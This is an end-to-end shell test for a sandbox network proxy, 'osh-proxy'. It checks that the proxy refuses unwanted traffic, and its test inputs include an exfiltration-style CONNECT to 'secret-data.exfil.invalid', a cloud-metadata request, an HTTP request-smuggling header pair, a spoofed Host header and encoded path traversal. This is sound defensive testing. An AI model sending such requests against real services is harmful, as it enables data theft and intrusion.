#!/bin/sh
# proxy.sh - osh-proxy end to end, on loopback only: bundles compiled by
# oshc from small policies, osh-proxy started with --listen 127.0.0.1:0
# --no-identity (every caller unknown, so only rules without `from`
# apply), and tests/e2e/proxy_peer.c as the server and the clients.
# Checks: allowed and denied hosts (a name resolving to loopback is refused
# unless a rule names 127.0.0.0/8), deny rules, the metadata address, a
# CONNECT tunnel echoing bytes, a connect rule with http rules admitting no
# tunnel, L7 allow and deny on one keep-alive connection, a chunked body
# forwarded, encoded dot segments refused, 200 concurrent tunnels, a client
# that stops reading while its server floods (the proxy's RSS stays put),
# 431 and 400, the TLS SNI check on port 443 (when the test may bind it),
# and the JSON decision log.  Under osh-run: the caller's identity, and the
# lazy start of osh-proxy (none while the agent has not connected, started
# by the first connection, a burst of 200 connections queued before it is
# up all served, the bundle it decides with the one osh-run read at launch
# even when the file is rewritten meanwhile).  Prints "N passed, M failed".
set -u
OSHC=${OSHC:-build/oshc}
BIN=$(dirname "$OSHC")
PROXY=$BIN/osh-proxy
export OSH_STDLIB=${OSH_STDLIB:-stdlib-policies}
tmp=$(mktemp -d "${TMPDIR:-/tmp}/osh-proxy-e2e.XXXXXX")
pids=""
cleanup() {
	for p in $pids; do kill "$p" 2>/dev/null; done
	rm -rf "$tmp"
}
trap cleanup EXIT
# shellcheck source=tests/e2e_lib.sh
. "$(dirname "$0")/../e2e_lib.sh"
# expect DESCRIPTION PATTERN FILE: FILE contains PATTERN (grep -E)
expect() {
	if grep -Eq "$2" "$3"; then ok; else
		bad "$1 (wanted /$2/, got:)"
		sed 's/^/    /' "$3" | head -20
	fi
}

if [ ! -x "$PROXY" ]; then
	echo "proxy.sh: $PROXY not built; skipped"
	echo "0 passed, 0 failed"
	exit 0
fi
PEER=$tmp/proxy_peer
${CC:-cc} -std=gnu11 -O2 -D_GNU_SOURCE -o "$PEER" tests/e2e/proxy_peer.c || {
	echo "proxy.sh: cannot build proxy_peer"
	exit 1
}

# the test server
"$PEER" server "$tmp/sport" "$tmp/accepts" &
pids="$pids $!"
i=0
while [ ! -s "$tmp/sport" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
S=$(cat "$tmp/sport")

compile() { # compile NAME POLICY-TEXT
	printf '%s\n' "$2" >"$tmp/$1.osh"
	"$OSHC" compile "$tmp/$1.osh" -o "$tmp/$1.oshb" >"$tmp/$1.out" 2>&1 ||
		{ bad "compile $1"; cat "$tmp/$1.out"; }
}
# start NAME: run osh-proxy on the bundle NAME; sets P (port) and PP (pid)
start() {
	rm -f "$tmp/$1.port"
	"$PROXY" --bundle "$tmp/$1.oshb" --listen 127.0.0.1:0 --no-identity \
		--log "$tmp/$1.log" >"$tmp/$1.port" 2>"$tmp/$1.err" &
	PP=$!
	pids="$pids $PP"
	i=0
	while ! grep -q listening "$tmp/$1.port" 2>/dev/null && [ $i -lt 50 ]; do
		sleep 0.1
		i=$((i + 1))
	done
	P=$(sed -n 's/.*:\([0-9]*\)$/\1/p' "$tmp/$1.port")
}
req() { # req FILE PRINTF-FORMAT ARGS...: a request file
	f=$1
	shift
	# shellcheck disable=SC2059
	printf "$@" >"$tmp/$f"
}

# ---- names, ranges and special addresses ----
compile names "policy names { net { allow connect localhost:$S; } }"
compile ranges "policy ranges { net {
	allow connect 127.0.0.0/8:$S;
	deny connect 127.0.0.3:*;
	allow connect 0.0.0.0/0:80;
} }"
start names
NP=$P
start ranges
RP=$P
RPID=$PP

"$PEER" echo "$NP" "localhost:$S" 1 >"$tmp/o" 2>&1
expect "a name resolving to loopback is refused under a host rule" "0/1 echoed" "$tmp/o"
expect "the refusal is logged with its reason" '"decision":"deny".*loopback' "$tmp/names.log"
"$PEER" echo "$RP" "localhost:$S" 1 >"$tmp/o" 2>&1
expect "a name resolving to loopback passes a rule naming 127.0.0.0/8 (tunnel echo)" \
	"1/1 echoed" "$tmp/o"
req connect_other 'CONNECT 127.0.0.1:%s HTTP/1.1\r\n\r\n' $((S + 1))
"$PEER" seq "$RP" "$tmp/connect_other" >"$tmp/o" 2>&1
expect "a port no rule names is refused" "403 Forbidden" "$tmp/o"
expect "... with X-Osh-Deny" "X-Osh-Deny: no allow connect rule" "$tmp/o"
req connect_deny 'CONNECT 127.0.0.3:%s HTTP/1.1\r\n\r\n' "$S"
"$PEER" seq "$RP" "$tmp/connect_deny" >"$tmp/o" 2>&1
expect "a deny rule overrides the range" "X-Osh-Deny: a deny connect rule" "$tmp/o"
req metadata 'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n'
"$PEER" seq "$RP" "$tmp/metadata" >"$tmp/o" 2>&1
expect "0.0.0.0/0:80 does not open the metadata address" "X-Osh-Deny: the address is loopback" \
	"$tmp/o"
req tenx 'CONNECT 10.1.2.3:80 HTTP/1.1\r\n\r\n'
"$PEER" seq "$RP" "$tmp/tenx" >"$tmp/o" 2>&1
expect "0.0.0.0/0:80 does not open a private address" "403 Forbidden" "$tmp/o"
req mapped 'CONNECT [::ffff:127.0.0.1]:80 HTTP/1.1\r\n\r\n'
"$PEER" seq "$RP" "$tmp/mapped" >"$tmp/o" 2>&1
expect "nor an IPv4-mapped loopback address" "403 Forbidden" "$tmp/o"
req exfil 'CONNECT secret-data.exfil.invalid:443 HTTP/1.1\r\n\r\n'
"$PEER" seq "$RP" "$tmp/exfil" >"$tmp/o" 2>&1
expect "a name no rule can allow is refused without a DNS query (403, not 502)" \
	"X-Osh-Deny: no allow connect rule" "$tmp/o"
req exfil80 'CONNECT secret-data.exfil.invalid:80 HTTP/1.1\r\n\r\n'
"$PEER" seq "$RP" "$tmp/exfil80" >"$tmp/o" 2>&1
expect "... but resolved when an address rule could allow it (0.0.0.0/0:80)" "^HTTP/1.1 502" "$tmp/o"
req odd 'CONNECT 127.1:%s HTTP/1.1\r\n\r\n' "$S"
"$PEER" seq "$RP" "$tmp/odd" >"$tmp/o" 2>&1
expect "a non-standard IPv4 form is refused" "400 Bad Request" "$tmp/o"

# ---- plain HTTP and L7 rules ----
compile l7 "policy l7 { net {
	allow connect 127.0.0.1:$S {
		allow http GET /ok/**;
		allow http POST /upload;
		deny http * /ok/secret/**;
	}
} }"
start l7
LP=$P
req get_ok 'GET http://127.0.0.1:%s/ok/a?x=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nProxy-Connection: keep-alive\r\n\r\n' "$S"
req get_secret 'GET http://127.0.0.1:%s/ok/secret/key HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/get_ok" "$tmp/get_ok" "$tmp/get_secret" >"$tmp/o" 2>&1
expect "L7: an allowed GET is forwarded in origin form" "^GET /ok/a\?x=1 body=0" "$tmp/o"
if [ "$(grep -c '^HTTP/1.1 200' "$tmp/o")" = 2 ]; then ok; else bad "keep-alive: two allowed requests on one connection"; fi
expect "L7: the third request on the same connection is denied" "X-Osh-Deny: a deny http rule" \
	"$tmp/o"
req post_chunked 'POST http://127.0.0.1:%s/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n7;ext=1\r\n, world\r\n0\r\nX-Trailer: 1\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/post_chunked" "$tmp/get_ok" >"$tmp/o" 2>&1
expect "a chunked body is forwarded whole" "^POST /upload body=12:hello, world" "$tmp/o"
expect "... and the next request on the connection is served" "^GET /ok/a" "$tmp/o"
req post_cl 'POST http://127.0.0.1:%s/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10\r\n\r\n0123456789' "$S"
"$PEER" seq "$LP" "$tmp/post_cl" >"$tmp/o" 2>&1
expect "a Content-Length body is forwarded" "^POST /upload body=10:0123456789" "$tmp/o"
req fronting 'GET http://127.0.0.1:%s/ok/a HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/fronting" >"$tmp/o" 2>&1
expect "the server sees the decided host, not the client's Host header" \
	"^GET /ok/a body=0: host=127.0.0.1:$S\$" "$tmp/o"
req get_other 'GET http://127.0.0.1:%s/other HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/get_other" >"$tmp/o" 2>&1
expect "L7: a path no http rule allows is denied" "X-Osh-Deny: no allow http rule" "$tmp/o"
req get_dots 'GET http://127.0.0.1:%s/ok/%%2e%%2e/other HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/get_dots" >"$tmp/o" 2>&1
expect "L7: encoded dot segments are refused" "403 Forbidden" "$tmp/o"
req tunnel_l7 'CONNECT 127.0.0.1:%s HTTP/1.1\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/tunnel_l7" >"$tmp/o" 2>&1
expect "a connect rule with http rules admits no tunnel" "X-Osh-Deny: the matching connect rule has http rules" "$tmp/o"
req smuggle 'POST http://127.0.0.1:%s/upload HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' "$S"
"$PEER" seq "$LP" "$tmp/smuggle" >"$tmp/o" 2>&1
expect "Content-Length with Transfer-Encoding is refused" "400 Bad Request" "$tmp/o"
req origin 'GET /ok/a HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'
"$PEER" seq "$LP" "$tmp/origin" >"$tmp/o" 2>&1
expect "an origin-form request is refused" "400 Bad Request" "$tmp/o"
{
	printf 'GET http://127.0.0.1:%s/ok/a HTTP/1.1\r\n' "$S"
	i=0
	while [ $i -lt 300 ]; do
		printf 'X-Filler-%03d: %s\r\n' $i "0123456789012345678901234567890123456789012345678901234567890123"
		i=$((i + 1))
	done
	printf '\r\n'
} >"$tmp/big"
"$PEER" seq "$LP" "$tmp/big" >"$tmp/o" 2>&1
expect "a head over 16 KiB gets 431" "^HTTP/1.1 431" "$tmp/o"

# ---- many tunnels, a stalled reader ----
"$PEER" echo "$RP" "127.0.0.1:$S" 200 >"$tmp/o" 2>&1
expect "200 concurrent tunnels all echo" "^200/200 echoed" "$tmp/o"
rss() { sed -n 's/^VmRSS:[[:space:]]*\([0-9]*\).*/\1/p' "/proc/$1/status"; }
before=$(rss "$RPID")
"$PEER" flood "$RP" "127.0.0.1:$S" 3 >"$tmp/o" 2>&1 &
fpid=$!
sleep 2
during=$(rss "$RPID")
wait $fpid
expect "the flooding tunnel was open" "^stalled 3 s" "$tmp/o"
if [ -n "$before" ] && [ -n "$during" ] && [ $((during - before)) -lt 4096 ]; then ok; else
	bad "a stalled reader grows the proxy: VmRSS $before kB -> $during kB"
fi
echo "  stalled reader: osh-proxy VmRSS $before kB before, $during kB while stalled"

# ---- the caller's identity (this shell stands in for the sandbox's init) ----
SH=$(readlink -f /bin/sh)
compile ident "policy ident { net {
	allow connect 127.0.0.1:$S from \"$PEER\";
	allow connect 127.0.0.2:$S from \"$SH\" and children;
} }"
"$PROXY" --bundle "$tmp/ident.oshb" --listen 127.0.0.1:0 --sandbox-pid $$ \
	--log "$tmp/ident.log" >"$tmp/ident.port" 2>"$tmp/ident.err" &
pids="$pids $!"
i=0
while ! grep -q listening "$tmp/ident.port" 2>/dev/null && [ $i -lt 50 ]; do
	sleep 0.1
	i=$((i + 1))
done
IP=$(sed -n 's/.*:\([0-9]*\)$/\1/p' "$tmp/ident.port")
"$PEER" echo "$IP" "127.0.0.1:$S" 1 >"$tmp/o" 2>&1
expect "from BINARY: the caller's executable is found and allowed" "^1/1 echoed" "$tmp/o"
expect "... and logged" "\"binary\":\"$PEER\"" "$tmp/ident.log"
"$PEER" echo "$IP" "127.0.0.2:$S" 1 >"$tmp/o" 2>&1
expect "from SHELL and children: a caller not under it is refused" \
	'"host":"127.0.0.2".*"decision":"deny"' "$tmp/ident.log"
sh -c "\"$PEER\" echo $IP 127.0.0.2:$S 1; true" >"$tmp/o" 2>&1
expect "from SHELL and children: a child of it connects (refused only by the dial: 127.0.0.2 has no server)" \
	'^0/1 echoed' "$tmp/o"
expect "... the decision was allow, through its ancestor" \
	"\"binary\":\"$PEER\".*\"host\":\"127.0.0.2\".*\"decision\":\"allow\"" "$tmp/ident.log"

# ---- TLS SNI on port 443 ----
if "$PEER" server "$tmp/tport" "$tmp/taccepts" 443 2>"$tmp/terr" &
then
	pids="$pids $!"
fi
i=0
while [ ! -s "$tmp/tport" ] && [ $i -lt 20 ]; do sleep 0.1; i=$((i + 1)); done
if [ -s "$tmp/tport" ]; then
	compile tls "policy tls { net { allow connect 127.0.0.0/8:443; } }"
	start tls
	"$PEER" tls "$P" localhost:443 localhost >"$tmp/o" 2>&1
	expect "SNI equal to the CONNECT host: tunnelled" "^echo" "$tmp/o"
	n1=$(wc -l <"$tmp/taccepts")
	"$PEER" tls "$P" localhost:443 LocalHost >"$tmp/o" 2>&1
	expect "SNI compared without case" "^echo" "$tmp/o"
	"$PEER" tls "$P" localhost:443 evil.example.com >"$tmp/o" 2>&1
	expect "SNI differing from the CONNECT host: refused" "^alert" "$tmp/o"
	"$PEER" tls "$P" localhost:443 - >"$tmp/o" 2>&1
	expect "a ClientHello without SNI: refused" "^alert" "$tmp/o"
	n2=$(wc -l <"$tmp/taccepts")
	if [ $((n2 - n1)) = 1 ]; then ok; else bad "refused hellos must not dial ($n1 -> $n2 accepts)"; fi
	expect "the SNI refusal is logged" '"reason":"the TLS SNI differs' "$tmp/tls.log"
else
	echo "  skipped the SNI checks: cannot bind 127.0.0.1:443 here ($(cat "$tmp/terr"))"
fi

# ---- the log ----
if command -v jq >/dev/null 2>&1; then
	if cat "$tmp"/*.log | jq -e 'has("time") and has("binary") and has("host") and has("port")
		and has("address") and has("method") and has("path") and has("decision")
		and has("rule") and has("reason")' >/dev/null 2>"$tmp/jq"; then ok; else
		bad "every log line is JSON with every field"
		cat "$tmp/jq"
	fi
fi
expect "an allowed request is logged with its rule" '"decision":"allow","rule":[0-9]' "$tmp/l7.log"

# ---- SIGTERM ----
kill -TERM "$RPID"
i=0
while kill -0 "$RPID" 2>/dev/null && [ $i -lt 30 ]; do sleep 0.1; i=$((i + 1)); done
if kill -0 "$RPID" 2>/dev/null; then bad "SIGTERM stops osh-proxy"; else ok; fi

# ---- under osh-run: osh-proxy starts at the agent's first connection ----
# children COMM PID: how many children of PID run COMM
children() {
	n=0
	# shellcheck disable=SC2013 # pids, one word each
	for k in $(cat "/proc/$2/task/$2/children" 2>/dev/null); do
		[ "$(cat "/proc/$k/comm" 2>/dev/null)" = "$1" ] && n=$((n + 1))
	done
	echo $n
}
lazy_start_checks() {
	SLEEP=$(readlink -f "$(command -v sleep)")
	chmod 755 "$tmp" # the agent (nobody, as root) runs proxy_peer from here
	compile lazy "import \"std/base.osh\";
policy lazy {
	use base;
	fs { allow read, exec \"$CURL\", \"$BASH\", \"$SLEEP\", \"$PEER\"; }
	syscalls { default allow; }
	net { allow connect 127.0.0.1:$S; }
}"
	compile lazy_closed "import \"std/base.osh\";
policy lazy_closed {
	use base;
	fs { allow read, exec \"$CURL\", \"$BASH\", \"$SLEEP\", \"$PEER\"; }
	syscalls { default allow; }
	net { allow connect 127.0.0.1:1; }
}"
	chmod 644 "$tmp"/lazy*.oshb
	"$RUN" "$tmp/lazy.oshb" -- "$SLEEP" 1.5 >"$tmp/o" 2>&1 &
	rpid=$!
	sleep 0.7
	n=$(children osh-proxy $rpid)
	wait $rpid
	rc=$?
	if [ "$n" = 0 ] && [ "$rc" = 0 ]; then ok; else
		bad "lazy start: an agent that never connects has no osh-proxy ($n running, exit $rc)"
	fi
	"$RUN" "$tmp/lazy.oshb" -- "$BASH" -c "sleep 1.5; exec 3<>/dev/tcp/127.0.0.1/3128; sleep 2" \
		>"$tmp/o" 2>&1 &
	rpid=$!
	sleep 0.7
	before=$(children osh-proxy $rpid)
	sleep 1.8
	after=$(children osh-proxy $rpid)
	wait $rpid
	rc=$?
	if [ "$before" = 0 ] && [ "$after" = 1 ] && [ "$rc" = 0 ]; then ok; else
		bad "lazy start: osh-proxy starts at the first connection (before $before, after $after, exit $rc)"
		cat "$tmp/o"
	fi
	"$RUN" "$tmp/lazy.oshb" --audit "$tmp/lazy.log" -- "$CURL" -s -m 5 --noproxy '' \
		-x http://127.0.0.1:3128 "http://127.0.0.1:$S/first" >"$tmp/o" 2>&1
	expect "lazy start: an agent whose first action is a connection is served" \
		"^GET /first body=0: host=127.0.0.1:$S" "$tmp/o"
	expect "... and the late osh-proxy logs to --audit with the caller named" \
		"\"binary\":\"$CURL\".*\"path\":\"/first\".*\"decision\":\"allow\"" "$tmp/lazy.log"
	t0=$(date +%s%N)
	"$RUN" "$tmp/lazy.oshb" -- "$PEER" echo 3128 "127.0.0.1:$S" 200 >"$tmp/o" 2>&1
	t1=$(date +%s%N)
	expect "lazy start: a burst of 200 connections before osh-proxy is up is served" \
		"^200/200 echoed" "$tmp/o"
	echo "  lazy start: 200 tunnels from a fresh sandbox in $(((t1 - t0) / 1000000)) ms"
	# the file rewritten after the launch (an agent may write where its
	# bundle lies): osh-proxy decides with what osh-run read at launch
	cp "$tmp/lazy_closed.oshb" "$tmp/rw.oshb"
	"$RUN" "$tmp/rw.oshb" -- "$BASH" -c "sleep 1; exec \"$CURL\" -s -m 5 --noproxy '' -o /dev/null \
		-w '%{http_code}\n' -x http://127.0.0.1:3128 http://127.0.0.1:$S/rewritten" >"$tmp/o" 2>&1 &
	rpid=$!
	sleep 0.4
	cat "$tmp/lazy.oshb" >"$tmp/rw.oshb"
	wait $rpid
	expect "lazy start: a bundle rewritten after the launch does not change osh-proxy's table" \
		"^403" "$tmp/o"
}

# ---- under osh-run: the caller's identity inside a real sandbox ----
RUN=$BIN/osh-run
CURL=$(command -v curl || true)
BASH=$(command -v bash || true)
if [ -x "$RUN" ] && [ -n "$CURL" ] && [ -n "$BASH" ]; then
	CURL=$(readlink -f "$CURL")
	BASH=$(readlink -f "$BASH")
	compile sandboxed "import \"std/base.osh\";
policy sandboxed {
	use base;
	fs { allow read, exec \"$CURL\", \"$BASH\"; }
	syscalls { default allow; }
	net { allow connect 127.0.0.1:$S from \"$CURL\"; }
}"
	if "$RUN" "$tmp/sandboxed.oshb" -- "$CURL" --version >"$tmp/o" 2>&1; then
		"$RUN" "$tmp/sandboxed.oshb" --audit "$tmp/run.log" -- "$CURL" -s -m 5 --noproxy '' \
			-x http://127.0.0.1:3128 "http://127.0.0.1:$S/in/sandbox" >"$tmp/o" 2>&1
		expect "osh-run: curl, named by the from rule, gets through" \
			"^GET /in/sandbox body=0: host=127.0.0.1:$S" "$tmp/o"
		expect "... and the log names it" "\"binary\":\"$CURL\".*\"decision\":\"allow\"" \
			"$tmp/run.log"
		# bash alone holds the socket (builtins only, no child inherits it)
		"$RUN" "$tmp/sandboxed.oshb" --audit "$tmp/run.log" -- "$BASH" -c \
			"exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://127.0.0.1:$S/bash HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; IFS= read -r line <&3; echo \"\$line\"" \
			>"$tmp/o" 2>&1
		expect "osh-run: bash, not named, is refused" "403 Forbidden" "$tmp/o"
		expect "... and the log names it" "\"binary\":\"$BASH\".*\"decision\":\"deny\"" \
			"$tmp/run.log"
		lazy_start_checks
	else
		echo "  skipped the osh-run checks: osh-run cannot start a sandbox here:"
		sed 's/^/    /' "$tmp/o" | head -3
	fi
else
	echo "  skipped the osh-run checks: osh-run, curl or bash missing"
fi

# ---- the sandbox's end, stdin's end ----
sleep 1 &
spid=$!
"$PROXY" --bundle "$tmp/ranges.oshb" --listen 127.0.0.1:0 --sandbox-pid $spid >/dev/null 2>&1 &
xpid=$!
pids="$pids $xpid"
wait $spid
i=0
while kill -0 "$xpid" 2>/dev/null && [ $i -lt 30 ]; do sleep 0.1; i=$((i + 1)); done
if kill -0 "$xpid" 2>/dev/null; then bad "osh-proxy exits when the sandbox's init does"; else ok; fi
(sleep 0.5) | "$PROXY" --bundle "$tmp/ranges.oshb" --listen 127.0.0.1:0 --no-identity \
	--exit-on-stdin-eof >/dev/null 2>&1 &
xpid=$!
pids="$pids $xpid"
i=0
while kill -0 "$xpid" 2>/dev/null && [ $i -lt 30 ]; do sleep 0.1; i=$((i + 1)); done
if kill -0 "$xpid" 2>/dev/null; then bad "--exit-on-stdin-eof: osh-proxy exits at EOF"; else ok; fi

echo "proxy: $pass passed, $fail failed"
[ "$fail" = 0 ]
